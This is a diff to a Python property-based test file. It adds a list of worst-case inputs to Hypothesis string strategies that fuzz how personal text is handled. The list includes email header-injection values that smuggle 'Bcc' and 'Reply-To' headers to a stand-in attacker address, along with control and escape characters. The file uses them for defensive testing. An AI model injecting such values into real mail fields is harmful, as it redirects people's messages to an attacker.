@@ -6,6 +6,7 @@ from hypothesis import HealthCheck, Phase, settings
 from hypothesis import strategies as st
 
 MARK = "qXpersonalX7"  # in every personal text that a test sends
+WORST = ["\0", "\r\nBcc: eve@evil.example", "=?utf-8?q?x=0D=0AReply-To:_eve@evil.example?=", "\x1b[2J", "\ud800"]
 PIECES = [
     *(
         "\0",
@@ -56,7 +57,8 @@ few = settings(
     suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
 )
 characters = st.characters() | st.characters(categories=["Cs", "Cc", "Cf"])
-texts = st.lists(st.sampled_from(PIECES) | st.text(characters, max_size=8), max_size=4).map("".join)
+pieces = st.sampled_from(WORST) | st.sampled_from(PIECES) | st.text(characters, max_size=8)
+texts = st.sampled_from(WORST) | st.lists(pieces, max_size=4).map("".join)
 raw = texts.map(lambda text: text.encode(errors="surrogatepass")) | st.binary(max_size=40)
 marked = texts.map(lambda text: text + MARK)
 json_texts = texts.filter(lambda text: not any("\ud800" <= one <= "\udfff" for one in text))
